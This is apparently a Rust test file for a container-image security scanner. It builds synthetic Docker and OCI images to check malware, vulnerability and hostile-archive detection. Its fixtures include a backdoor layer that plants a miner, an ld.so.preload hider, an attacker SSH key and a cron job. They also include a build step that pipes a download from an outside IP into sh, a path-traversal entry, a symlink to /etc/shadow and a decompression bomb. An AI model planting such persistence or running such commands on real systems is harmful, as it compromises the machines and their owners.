//! Scanning images built by the test: a docker-archive and an OCI layout holding the attack
//! story's backdoored image (a Debian base, then a layer that plants a miner and hides it),
//! hostile archives, and the shared scalibr fixtures.

use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};

use harrier_image::archive::Image;
use harrier_image::layers::{self, Limits};
use harrier_image::malware::Severity;
use harrier_image::scan::scan;
use harrier_image::vulndb::VulnDb;
use sha2::{Digest, Sha256};

enum E<'a> {
    File(&'a str, &'a [u8], u32),
    Link(&'a str, &'a str),
    /// A raw entry name, written as is (for hostile names).
    Raw(&'a str, &'a [u8]),
}

fn layer(entries: &[E<'_>]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        match e {
            E::File(p, data, mode) => {
                let mut h = tar::Header::new_gnu();
                h.set_size(data.len() as u64);
                h.set_mode(*mode);
                h.set_entry_type(tar::EntryType::Regular);
                b.append_data(&mut h, p, *data).unwrap();
            }
            E::Link(p, target) => {
                let mut h = tar::Header::new_gnu();
                h.set_entry_type(tar::EntryType::Symlink);
                h.set_size(0);
                b.append_link(&mut h, p, target).unwrap();
            }
            E::Raw(name, data) => {
                let mut h = tar::Header::new_old();
                let n = name.as_bytes();
                h.as_old_mut().name[..n.len()].copy_from_slice(n);
                h.set_size(data.len() as u64);
                h.set_mode(0o644);
                h.set_entry_type(tar::EntryType::Regular);
                h.set_cksum();
                b.append(&h, *data).unwrap();
            }
        }
    }
    b.into_inner().unwrap()
}

fn sha(b: &[u8]) -> String {
    Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

const STATUS: &str = "Package: nginx\nStatus: install ok installed\nVersion: 1.2.1-2.2+wheezy2\nArchitecture: amd64\n\nPackage: libc6\nStatus: install ok installed\nSource: eglibc\nVersion: 2.13-38+deb7u4\n";

fn story_layers() -> Vec<Vec<u8>> {
    let base = layer(&[
        E::File(
            "etc/os-release",
            b"PRETTY_NAME=\"Debian GNU/Linux 7 (wheezy)\"\nID=debian\nVERSION_ID=\"7\"\n",
            0o644,
        ),
        E::File("var/lib/dpkg/status", STATUS.as_bytes(), 0o644),
        E::File("root/.bash_history", b"apt-get install nginx\n", 0o600),
        E::File("bin/su", b"\x7fELF su", 0o4755),
        // Near misses: a document about miners, and a cron job shipped with the base.
        E::File(
            "usr/share/doc/xmrig-notes.txt",
            b"how we keep xmrig out\n",
            0o644,
        ),
        E::File("etc/cron.d/logrotate", b"0 0 * * * root logrotate\n", 0o644),
    ]);
    let backdoor = layer(&[
        E::File(
            "usr/local/bin/xmrig",
            b"\x7fELF ... stratum+tcp://pool.example:4444 ...",
            0o755,
        ),
        E::File(
            "opt/cfg/config.json",
            b"{\"donate-level\": 0, \"pools\": []}",
            0o644,
        ),
        E::File(
            "etc/ld.so.preload",
            b"/usr/local/lib/libprocesshider.so\n",
            0o644,
        ),
        E::File(
            "root/.ssh/authorized_keys",
            b"ssh-ed25519 AAAA attacker\n",
            0o600,
        ),
        E::File(
            "etc/cron.d/sync",
            b"* * * * * root /usr/local/bin/xmrig\n",
            0o644,
        ),
        E::File("usr/bin/helper", b"\x7fELF helper", 0o4755),
        E::File("root/.wh..bash_history", b"", 0o644),
    ]);
    vec![base, backdoor]
}

const STEPS: [&str; 2] = [
    "/bin/sh -c #(nop) ADD file:debian-wheezy in /",
    "RUN curl -s http://203.0.113.7/x.sh | sh",
];

/// A `docker save` archive (legacy layout) of `layers`.
fn docker_archive(dir: &Path, layers: &[Vec<u8>]) -> PathBuf {
    let diff: Vec<String> = layers
        .iter()
        .map(|l| format!("sha256:{}", sha(l)))
        .collect();
    let config = serde_json::json!({
        "architecture": "amd64", "os": "linux",
        "config": {"User": "", "ExposedPorts": {"80/tcp": {}}},
        "rootfs": {"type": "layers", "diff_ids": diff},
        "history": STEPS[..layers.len()].iter().map(|s| serde_json::json!({"created_by": s})).collect::<Vec<_>>(),
    })
    .to_string();
    let config_name = format!("{}.json", sha(config.as_bytes()));
    let mut names = Vec::new();
    let mut b = tar::Builder::new(Vec::new());
    let add = |b: &mut tar::Builder<Vec<u8>>, name: &str, data: &[u8]| {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, data).unwrap();
    };
    for l in layers {
        let n = format!("{}/layer.tar", sha(l));
        add(&mut b, &n, l);
        names.push(n);
    }
    add(&mut b, &config_name, config.as_bytes());
    let manifest =
        serde_json::json!([{"Config": config_name, "RepoTags": ["acme/web:1.4"], "Layers": names}])
            .to_string();
    add(&mut b, "manifest.json", manifest.as_bytes());
    let p = dir.join("image.tar");
    std::fs::write(&p, b.into_inner().unwrap()).unwrap();
    p
}

/// An OCI layout directory with gzipped layers.
fn oci_layout(dir: &Path, layers: &[Vec<u8>]) -> PathBuf {
    let root = dir.join("oci");
    std::fs::create_dir_all(root.join("blobs/sha256")).unwrap();
    let put = |data: &[u8]| -> String {
        let h = sha(data);
        std::fs::write(root.join("blobs/sha256").join(&h), data).unwrap();
        format!("sha256:{h}")
    };
    let mut descs = Vec::new();
    let mut diff = Vec::new();
    for l in layers {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(l).unwrap();
        let blob = gz.finish().unwrap();
        diff.push(format!("sha256:{}", sha(l)));
        descs.push(serde_json::json!({"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": put(&blob), "size": blob.len()}));
    }
    let config = serde_json::json!({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": diff},
        "history": STEPS.iter().map(|s| serde_json::json!({"created_by": s})).collect::<Vec<_>>()}).to_string();
    let cd = put(config.as_bytes());
    let manifest = serde_json::json!({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": config.len()}, "layers": descs}).to_string();
    let md = put(manifest.as_bytes());
    std::fs::write(root.join("index.json"), serde_json::json!({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": manifest.len()}]}).to_string()).unwrap();
    std::fs::write(root.join("oci-layout"), r#"{"imageLayoutVersion":"1.0.0"}"#).unwrap();
    root
}

fn db(dir: &Path) -> VulnDb {
    let mut db = VulnDb::open(&dir.join("vulns.db")).unwrap();
    let osv = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/image/osv");
    let mut problems = Vec::new();
    let n = db.import(&osv, &mut |p| problems.push(p)).unwrap();
    assert_eq!(n.records, 17, "{n:?}");
    // osv-schema.json and the oracle file are not OSV records: reported, skipped.
    assert_eq!(n.skipped as usize, problems.len());
    assert!(
        problems.iter().any(|p| p.contains("osv-schema.json")),
        "{problems:?}"
    );
    db
}

fn ids_by_layer(r: &harrier_image::scan::Report) -> Vec<(usize, &'static str, String)> {
    r.malware
        .iter()
        .map(|m| (m.layer, m.id, m.path.clone()))
        .collect()
}

#[test]
fn the_backdoored_image_is_caught_layer_by_layer() {
    let d = tempfile::tempdir().unwrap();
    let db = db(d.path());
    for image in [
        docker_archive(d.path(), &story_layers()),
        oci_layout(d.path(), &story_layers()),
    ] {
        let r = scan(&image, Some(&db), &Limits::default()).unwrap();
        assert!(r.problems.is_empty(), "{:?}", r.problems);
        let got = ids_by_layer(&r);
        for (id, path) in [
            ("miner-binary", "usr/local/bin/xmrig"),
            ("miner-pool-url", "usr/local/bin/xmrig"),
            ("miner-config", "opt/cfg/config.json"),
            ("ld-so-preload", "etc/ld.so.preload"),
            ("ssh-authorized-keys", "root/.ssh/authorized_keys"),
            ("cron-entry", "etc/cron.d/sync"),
            ("new-setuid", "usr/bin/helper"),
            ("history-wiped", "root/.bash_history"),
        ] {
            assert!(
                got.contains(&(1, id, path.to_string())),
                "{id} on {path} in layer 1: {got:#?}"
            );
        }
        // Nothing in the base layer: its setuid su, its cron job and the doc about miners are normal.
        assert!(got.iter().all(|(l, _, _)| *l == 1), "{got:#?}");
        assert_eq!(got.len(), 8, "{got:#?}");
        // The layer is named by the step that made it.
        assert_eq!(r.layers[1].created_by.as_deref(), Some(STEPS[1]));
        // Packages: nginx is vulnerable to DSA-3029-1, fixed in +wheezy3; libc6 is matched by its
        // source package (eglibc) and no advisory names it.
        assert_eq!(r.packages.len(), 2);
        let v: Vec<(&str, &str, Option<&str>)> = r
            .vulnerabilities
            .iter()
            .map(|v| (v.id.as_str(), v.package.as_str(), v.fixed.as_deref()))
            .collect();
        assert_eq!(v, [("DSA-3029-1", "nginx", Some("1.2.1-2.2+wheezy3"))]);
        assert!(r.fails(Severity::Critical));
        // The step that planted it pipes a download into a shell.
        assert!(
            r.practice
                .iter()
                .any(|p| p.id == "pipe-to-shell" && p.location == "layer 1"),
            "{:?}",
            r.practice
        );
        let j = r.to_json();
        assert_eq!(j["os"]["ecosystem"], "Debian:7");
        assert_eq!(j["malware"][0]["layer"]["index"], 1);
    }
}

#[test]
fn the_clean_base_alone_raises_nothing_and_a_fixed_package_does_not_match() {
    let d = tempfile::tempdir().unwrap();
    let db = db(d.path());
    let base = layer(&[
        E::File("etc/os-release", b"ID=debian\nVERSION_ID=\"7\"\n", 0o644),
        E::File(
            "var/lib/dpkg/status",
            STATUS.replace("wheezy2", "wheezy3").as_bytes(),
            0o644,
        ),
        E::File(
            "usr/share/doc/xmrig-notes.txt",
            b"how we keep xmrig out\n",
            0o644,
        ),
    ]);
    let r = scan(
        &docker_archive(d.path(), &[base]),
        Some(&db),
        &Limits::default(),
    )
    .unwrap();
    assert!(r.malware.is_empty(), "{:?}", r.malware);
    assert!(r.vulnerabilities.is_empty(), "{:?}", r.vulnerabilities);
    // Only the config's practice: no USER, no HEALTHCHECK (and port 80 is fine).
    let practice: Vec<&str> = r.practice.iter().map(|p| p.id).collect();
    assert_eq!(practice, ["runs-as-root", "no-healthcheck"]);
    assert!(!r.fails(Severity::High));
}

#[test]
fn hostile_layers_are_reported_not_followed() {
    let d = tempfile::tempdir().unwrap();
    let evil = layer(&[
        E::Raw("../../etc/cron.d/evil", b"* * * * * root sh"),
        E::File("etc/ok", b"fine", 0o644),
        E::Link("etc/escape", "../../../../../../etc/shadow"),
    ]);
    let img = Image::open(&docker_archive(d.path(), &[evil])).unwrap();
    let w = layers::walk(
        &img,
        &|_| true,
        &harrier_image::malware::scanner(),
        &Limits::default(),
    );
    assert_eq!(w.problems.len(), 1, "{:?}", w.problems);
    let p = w.problems[0].to_string();
    assert!(
        p.contains("../../etc/cron.d/evil") && p.contains("path traversal"),
        "{p}"
    );
    assert!(w.files.contains_key("etc/ok"), "the walk went on");
    // The link is recorded, and resolving it stays inside the image (there is no etc/shadow).
    assert!(w.resolve("etc/escape").is_none());

    // A layer larger than the limit (a decompression bomb) stops that layer with a clear error.
    let big = layer(&[E::File("zeros", &vec![0u8; 1 << 20], 0o644)]);
    let img = Image::open(&oci_layout(d.path(), &[big])).unwrap();
    let small = Limits {
        layer_bytes: 64 << 10,
        ..Limits::default()
    };
    let w = layers::walk(&img, &|_| false, &harrier_image::malware::scanner(), &small);
    assert!(
        w.problems
            .iter()
            .any(|p| p.to_string().contains("decompression bomb")),
        "{:?}",
        w.problems
    );
}

#[test]
fn a_tampered_blob_fails_its_digest() {
    let d = tempfile::tempdir().unwrap();
    let root = oci_layout(d.path(), &story_layers()[..1]);
    let img = Image::open(&root).unwrap();
    let digest = img.layers[0].digest.clone().unwrap();
    let blob = root
        .join("blobs/sha256")
        .join(digest.trim_start_matches("sha256:"));
    // Same layer content, recompressed: a different blob than the manifest names.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&story_layers()[0]).unwrap();
    gz.write_all(&[0u8; 1024]).unwrap();
    std::fs::write(&blob, gz.finish().unwrap()).unwrap();
    let w = layers::walk(
        &Image::open(&root).unwrap(),
        &|_| false,
        &harrier_image::malware::scanner(),
        &Limits::default(),
    );
    assert!(
        w.problems
            .iter()
            .any(|p| p.to_string().contains("digest mismatch")),
        "{:?}",
        w.problems
    );
}

fn shared_archive(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/image/image-archives")
        .join(name)
}

#[test]
fn shared_fixtures_basic_and_hostile() {
    // A real `docker save` of two COPY layers; diff_ids verified.
    let r = scan(
        &shared_archive("scalibr-basic-docker-archive.tar"),
        None,
        &Limits::default(),
    )
    .unwrap();
    assert!(r.problems.is_empty(), "{:?}", r.problems);
    assert_eq!(r.layers.len(), 2);
    assert_eq!(r.tags, ["basic:latest"]);
    assert_eq!(
        r.layers[0].created_by.as_deref(),
        Some("COPY sample.txt / # buildkit")
    );
    // A root filesystem tar of symlinks chained to climb out of the root: nothing escapes.
    let img = Image::open(&shared_archive("scalibr-escape.tar")).unwrap();
    let w = layers::walk(
        &img,
        &|_| true,
        &harrier_image::malware::scanner(),
        &Limits::default(),
    );
    assert!(w.files.contains_key("escape/poc.txt") || w.files.contains_key("escape"));
    for p in [
        "usr/share/doc/a/copyright",
        "usr/share/doc/b/copyright",
        "usr/share/doc/c/copyright",
    ] {
        if let Some((target, _)) = w.resolve(p) {
            assert!(!target.contains(".."), "{p} -> {target}");
        }
    }
    let r = scan(
        &shared_archive("scalibr-symlink-attack.tar"),
        None,
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(r.layers.len(), 1);
}

#[test]
fn sarif_cyclonedx_and_spdx_carry_every_finding_and_package() {
    let d = tempfile::tempdir().unwrap();
    let db = db(d.path());
    let r = scan(
        &docker_archive(d.path(), &story_layers()),
        Some(&db),
        &Limits::default(),
    )
    .unwrap();
    let s = harrier_image::formats::sarif(&r);
    assert_eq!(s["version"], "2.1.0");
    let results = s["runs"][0]["results"].as_array().unwrap();
    assert_eq!(
        results.len(),
        r.malware.len() + r.practice.len() + r.vulnerabilities.len()
    );
    let rules = s["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    for res in results {
        assert!(rules.iter().any(|x| x["id"] == res["ruleId"]), "{res}");
    }
    let preload = results
        .iter()
        .find(|x| x["ruleId"] == "ld-so-preload")
        .unwrap();
    assert_eq!(preload["level"], "error");
    assert_eq!(
        preload["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "etc/ld.so.preload"
    );

    let c = harrier_image::formats::cyclonedx(&r);
    assert_eq!(
        (c["bomFormat"].as_str(), c["specVersion"].as_str()),
        (Some("CycloneDX"), Some("1.5"))
    );
    let comps = c["components"].as_array().unwrap();
    assert_eq!(comps.len(), 2);
    assert!(comps
        .iter()
        .any(|x| x["purl"] == "pkg:deb/debian/nginx@1.2.1-2.2%2Bwheezy2?distro=debian-7"));
    assert_eq!(c["vulnerabilities"][0]["id"], "DSA-3029-1");
    assert_eq!(
        c["vulnerabilities"][0]["affects"][0]["ref"],
        comps.iter().find(|x| x["name"] == "nginx").unwrap()["bom-ref"]
    );

    let sp = harrier_image::formats::spdx(&r, "2026-11-26T00:00:00Z");
    assert_eq!(sp["spdxVersion"], "SPDX-2.3");
    assert_eq!(sp["packages"].as_array().unwrap().len(), 3);
    assert_eq!(sp["relationships"][0]["relationshipType"], "DESCRIBES");
    assert_eq!(sp["relationships"].as_array().unwrap().len(), 3);
}

#[test]
fn language_packages_are_cataloged_and_matched_in_their_ecosystems() {
    let d = tempfile::tempdir().unwrap();
    let db = db(d.path());
    let app = layer(&[
        E::File("etc/os-release", b"ID=debian\nVERSION_ID=\"12\"\n", 0o644),
        E::File("usr/lib/python3/dist-packages/requests-2.30.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: requests\nVersion: 2.30.0\n", 0o644),
        E::File("usr/lib/python3/dist-packages/idna-3.7.dist-info/METADATA", b"Metadata-Version: 2.1\nName: idna\nVersion: 3.7\n", 0o644),
        E::File("srv/app/node_modules/lodash/package.json", br#"{"name": "lodash", "version": "4.17.11"}"#, 0o644),
        // Fixed already: must not match.
        E::File("srv/app/node_modules/lodash-es/package.json", br#"{"name": "lodash-es", "version": "4.17.21"}"#, 0o644),
        E::File("srv/tool/Cargo.lock", b"version = 3\n\n[[package]]\nname = \"time\"\nversion = \"0.1.44\"\n\n[[package]]\nname = \"itoa\"\nversion = \"1.0.11\"\n", 0o644),
    ]);
    let r = scan(
        &docker_archive(d.path(), &[app]),
        Some(&db),
        &Limits::default(),
    )
    .unwrap();
    let kinds: Vec<(&str, &str)> = r
        .packages
        .iter()
        .map(|p| (p.name.as_str(), p.kind))
        .collect();
    for want in [
        ("requests", "python"),
        ("idna", "python"),
        ("lodash", "npm"),
        ("lodash-es", "npm"),
        ("time", "cargo"),
        ("itoa", "cargo"),
    ] {
        assert!(kinds.contains(&want), "{want:?} in {kinds:?}");
    }
    let got: BTreeSet<(&str, &str, Option<&str>)> = r
        .vulnerabilities
        .iter()
        .map(|v| (v.id.as_str(), v.package.as_str(), v.fixed.as_deref()))
        .collect();
    assert_eq!(
        got,
        BTreeSet::from([
            ("GHSA-j8r2-6x86-q33q", "requests", Some("2.31.0")),
            ("GHSA-jf85-cpcp-j695", "lodash", Some("4.17.12")),
            ("RUSTSEC-2020-0071", "time", Some("0.2.0")),
            // GitHub's record of the same issue (CVE-2020-26235): last_affected 0.2, no fix.
            ("GHSA-wcg3-cvx6-7396", "time", None),
        ])
    );
    let c = harrier_image::formats::cyclonedx(&r);
    let purls: Vec<&str> = c["components"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["purl"].as_str().unwrap())
        .collect();
    assert!(purls.contains(&"pkg:pypi/requests@2.30.0"), "{purls:?}");
    assert!(purls.contains(&"pkg:npm/lodash@4.17.11"));
    assert!(purls.contains(&"pkg:cargo/time@0.1.44"));
}

#[test]
fn go_and_rust_binaries_report_what_was_compiled_in() {
    let d = tempfile::tempdir().unwrap();
    let db = db(d.path());
    let go = harrier_image::binaries::fake::go_binary(
        "go1.19.2",
        "path\texample.com/agent\nmod\texample.com/agent\t(devel)\t\ndep\tgolang.org/x/net\tv0.1.0\th1:x=\n",
    );
    let rust = harrier_image::binaries::fake::rust_binary(
        r#"{"packages":[{"name":"agent","version":"0.1.0","source":"local"},{"name":"time","version":"0.1.44","source":"crates.io"}]}"#,
    );
    let img = layer(&[
        E::File("usr/local/bin/agent", &go, 0o755),
        E::File("usr/local/bin/rs-agent", &rust, 0o755),
        // The same bytes without the exec bit are not read as a binary.
        E::File("usr/share/doc/agent.copy", &go, 0o644),
    ]);
    let r = scan(
        &docker_archive(d.path(), &[img]),
        Some(&db),
        &Limits::default(),
    )
    .unwrap();
    let pk: BTreeSet<(&str, &str, &str)> = r
        .packages
        .iter()
        .map(|p| (p.name.as_str(), p.version.as_str(), p.kind))
        .collect();
    assert_eq!(
        pk,
        BTreeSet::from([
            ("stdlib", "1.19.2", "go"),
            ("golang.org/x/net", "v0.1.0", "go"),
            ("time", "0.1.44", "cargo"),
        ])
    );
    let v: BTreeSet<(&str, &str)> = r
        .vulnerabilities
        .iter()
        .map(|v| (v.id.as_str(), v.package.as_str()))
        .collect();
    for want in [
        ("GO-2022-1144", "stdlib"),
        ("GO-2022-1144", "golang.org/x/net"),
        ("GO-2023-1495", "golang.org/x/net"),
        ("RUSTSEC-2020-0071", "time"),
    ] {
        assert!(v.contains(&want), "{want:?} in {v:?}");
    }
    assert!(r
        .packages
        .iter()
        .all(|p| p.location.starts_with("usr/local/bin/")));
}

#[test]
fn an_rpm_image_is_cataloged_from_its_sqlite_rpmdb() {
    let d = tempfile::tempdir().unwrap();
    let dbp = d.path().join("rpmdb.sqlite");
    let c = rusqlite::Connection::open(&dbp).unwrap();
    c.execute_batch(
        "CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL);",
    )
    .unwrap();
    for (n, e, v, r, s) in [
        ("bash", 0, "5.1.8", "6.el9", "bash-5.1.8-6.el9.src.rpm"),
        (
            "openssl-libs",
            1,
            "3.0.7",
            "24.el9",
            "openssl-3.0.7-24.el9.src.rpm",
        ),
    ] {
        c.execute(
            "INSERT INTO Packages (blob) VALUES (?1)",
            [harrier_image::rpmdb::fake_header(n, e, v, r, s)],
        )
        .unwrap();
    }
    drop(c);
    let rpmdb = std::fs::read(&dbp).unwrap();
    let img = layer(&[
        E::File(
            "etc/os-release",
            b"NAME=\"Rocky Linux\"\nID=\"rocky\"\nVERSION_ID=\"9.3\"\n",
            0o644,
        ),
        E::File("var/lib/rpm/rpmdb.sqlite", &rpmdb, 0o644),
    ]);
    let r = scan(&docker_archive(d.path(), &[img]), None, &Limits::default()).unwrap();
    let got: Vec<(&str, &str, &str)> = r
        .packages
        .iter()
        .map(|p| (p.name.as_str(), p.version.as_str(), p.source.as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("bash", "5.1.8-6.el9", "bash"),
            ("openssl-libs", "1:3.0.7-24.el9", "openssl")
        ]
    );
    assert_eq!(
        r.os.as_ref().unwrap().ecosystem().as_deref(),
        Some("Rocky Linux:9")
    );
    let c = harrier_image::formats::cyclonedx(&r);
    assert_eq!(
        c["components"][1]["purl"],
        "pkg:rpm/rocky/openssl-libs@1%3A3.0.7-24.el9"
    );
}

#[test]
fn executables_matching_a_known_malware_hash_are_flagged() {
    let d = tempfile::tempdir().unwrap();
    let miner = b"\x7fELF renamed miner bytes".to_vec();
    let known = harrier_image::malware::parse_known_hashes(&format!(
        "# list\n{} xmrig-6.21 (renamed)\n",
        sha(&miner)
    ))
    .unwrap();
    let img = layer(&[
        E::File("usr/bin/kworkerd", &miner, 0o755),
        E::File("usr/bin/ls", b"\x7fELF a real ls", 0o755),
    ]);
    let r = harrier_image::scan::scan_with(
        &docker_archive(d.path(), &[img]),
        None,
        &Limits::default(),
        &known,
    )
    .unwrap();
    let hits: Vec<(&str, &str)> = r
        .malware
        .iter()
        .filter(|m| m.id == "known-malware-hash")
        .map(|m| (m.path.as_str(), m.detail.as_str()))
        .collect();
    assert_eq!(hits.len(), 1, "{:?}", r.malware);
    assert_eq!(hits[0].0, "usr/bin/kworkerd");
    assert!(hits[0].1.contains("xmrig-6.21"));
    assert!(harrier_image::malware::parse_known_hashes("nothex name")
        .unwrap_err()
        .contains("line 1"));
}

#[test]
fn whiteouts_hide_lower_layers_only_and_exactly_their_path() {
    let d = tempfile::tempdir().unwrap();
    let base = layer(&[
        E::File("usr/share/doc/pkg/README", b"x", 0o644),
        E::File("usr/share/doc-base/pkg", b"y", 0o644),
        E::File("usr/share/doc.d/z", b"z", 0o644),
    ]);
    let top = layer(&[
        E::File("usr/share/.wh.doc", b"", 0o644),
        // A file and its own whiteout in one layer: the whiteout only applies below.
        E::File("opt/keep", b"k", 0o644),
        E::File("opt/.wh.keep", b"", 0o644),
    ]);
    let img = Image::open(&docker_archive(d.path(), &[base, top])).unwrap();
    let w = layers::walk(
        &img,
        &|_| false,
        &harrier_image::malware::scanner(),
        &Limits::default(),
    );
    assert!(!w.files.contains_key("usr/share/doc/pkg/README"));
    assert!(
        w.files.contains_key("usr/share/doc-base/pkg"),
        "a sibling sorting between doc and doc/ stays"
    );
    assert!(w.files.contains_key("usr/share/doc.d/z"));
    assert!(w.files.contains_key("opt/keep"));
}
